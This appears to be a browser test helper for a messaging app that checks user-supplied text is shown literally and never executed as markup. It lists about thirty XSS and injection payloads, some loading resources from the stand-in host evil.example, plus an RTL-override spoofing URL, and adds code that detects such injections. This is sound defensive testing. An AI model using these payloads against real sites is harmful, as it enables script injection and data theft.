import type { Locator, Page } from "playwright-core";
import { expect } from "vitest";
import { messageList } from "./people.ts";

/** Texts that would run, load or draw something if they were taken for markup, and then be noticed by `rupt`. */
export const payloads = [
  `<script>alert("rupt")</script>`,
  `<img src=x onerror=alert("rupt")>`,
  `<svg/onload=alert("rupt")>`,
  `<svg><script xlink:href="https://evil.example/rupt.js"></script></svg>`,
  `<iframe srcdoc="<script>parent.alert('rupt')</script>"></iframe>`,
  `<body onload=alert("rupt")>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert("rupt")>`,
  `"><img src=https://evil.example/rupt.gif>`,
  `' onmouseover='alert("rupt")' x='`,
  `<a href="javascript:alert('rupt')">apasă rupt</a>`,
  `javascript:alert("rupt")`,
  `https://evil.example/"onmouseover="alert('rupt')`,
  `<link rel=stylesheet href=https://evil.example/rupt.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/rupt">`,
  `<form action=https://evil.example/rupt><button>rupt</button></form>`,
  `<base href=https://evil.example/rupt/>`,
  `<object data="data:text/html,<script>alert('rupt')</script>"></object>`,
  `<details open ontoggle=alert("rupt")>rupt</details>`,
  `\${alert("rupt")} {{constructor.constructor('alert("rupt")')()}}`,
  `</textarea></p></article><script>alert("rupt")</script>`,
  `{count, plural, =0 {<b>rupt</b>} other {#}}`,
  `<style>*{background:url(https://evil.example/rupt.png)}</style>`,
  `</title></style><script>alert("rupt")</script>`,
  `<video><source onerror=alert("rupt")></video>`,
  `<input autofocus onfocus=alert("rupt")>`,
  `<embed src=https://evil.example/rupt.swf>`,
  `&lt;img src=x onerror=alert(&quot;rupt&quot;)&gt;`,
  `\\u003cimg src=x onerror=alert("rupt")\\u003e`,
  `<!--><script>alert("rupt")</script>-->`,
  `data:text/html,<script>alert("rupt")</script>`,
] as const;

/** Reverses the direction of the text after it, so names and offers refuse it. */
export const turning = `https://rupt.example\u202e/gro.elpmaxe.live`;

/** All payloads, in as few texts as the limit allows. */
export function packed(charactersMax: number): string[] {
  const texts: string[] = [];
  for (const payload of payloads) {
    const last = texts.at(-1);
    if (last === undefined || last.length + 1 + payload.length > charactersMax) texts.push(payload);
    else texts.splice(-1, 1, `${last} ${payload}`);
  }
  return texts;
}

/** Records dialogs, requests to other addresses, errors and unknown frames. */
export function watch(addresses: readonly string[], ...pages: readonly Page[]): readonly string[] {
  const own = new Set(addresses.map((address) => new URL(address).host));
  const caught: string[] = [];
  for (const page of pages) {
    page.on("dialog", (dialog) => {
      caught.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on("request", (request) => {
      const { host, protocol } = new URL(request.url());
      if (!own.has(host) && protocol !== "data:" && protocol !== "blob:") caught.push(`request: ${request.url()}`);
    });
    page.on("console", (line) => {
      if (/content security policy/iu.test(line.text())) caught.push(line.text());
    });
    page.on("pageerror", (error) => caught.push(`error: ${error.message}`));
    page.on("framenavigated", (frame) => {
      if (!own.has(new URL(frame.url()).host)) caught.push(`frame: ${frame.url()}`);
    });
  }
  return caught;
}

/** Elements in the page and its frames that a payload has created or changed. */
export async function brokenOut(page: Page): Promise<string[]> {
  const found = await Promise.all(page.frames().map((frame) => frame.evaluate(findBrokenOut, null)));
  return found.flat();
}

/** Runs in a page: searches the page, or `markup` unless null. */
export function findBrokenOut(markup: string | null): string[] {
  const root = markup === null ? document : new DOMParser().parseFromString(markup, "text/html");
  const loading = /^(?:src|srcdoc|srcset|data|action|formaction|style|content|poster|xlink:href)$/u;
  const isForeign = (element: Element): boolean => {
    const { tagName, textContent, childElementCount, attributes } = element;
    if (/^(?:script|style)$/iu.test(tagName) && /rupt|evil/u.test(textContent)) return true;
    if (tagName !== "MARK" && childElementCount === 0 && /^(?:apasă )?rupt$/u.test(textContent)) return true;
    return [...attributes].some(
      ({ name, value }) =>
        name.startsWith("on") ||
        (loading.test(name) && /rupt|evil/u.test(value)) ||
        (name === "href" &&
          (/^\s*(?:javascript:|data:(?!image\/))/iu.test(value) || (tagName !== "A" && value.includes("evil")))),
    );
  };
  return [...root.querySelectorAll("*")].filter(isForeign).map(({ outerHTML }) => outerHTML.slice(0, 200));
}

/** Waits until all the texts appear literally, also in fields and labels, and none of them as markup. */
export async function expectHarmless(where: Locator, texts: readonly string[]): Promise<void> {
  const missing = (): Promise<string[]> =>
    where.evaluate((root, texts) => {
      const all = [...root.querySelectorAll("*")].flatMap((element) => [
        element instanceof HTMLInputElement || element instanceof HTMLTextAreaElement ? element.value : "",
        element.getAttribute("aria-label") ?? "",
      ]);
      const shown = [root.textContent ?? "", ...all].join("\n").replaceAll(/\s+/gu, " ");
      return texts.filter((text) => !shown.includes(text));
    }, texts);
  await expect.poll(missing).toEqual([]);
  expect(await brokenOut(where.page())).toEqual([]);
}

export const linksOf = async (page: Page) =>
  await messageList(page)
    .getByRole("link")
    .evaluateAll((all) => all.map((link) => ({ text: link.textContent, href: link.getAttribute("href") })));
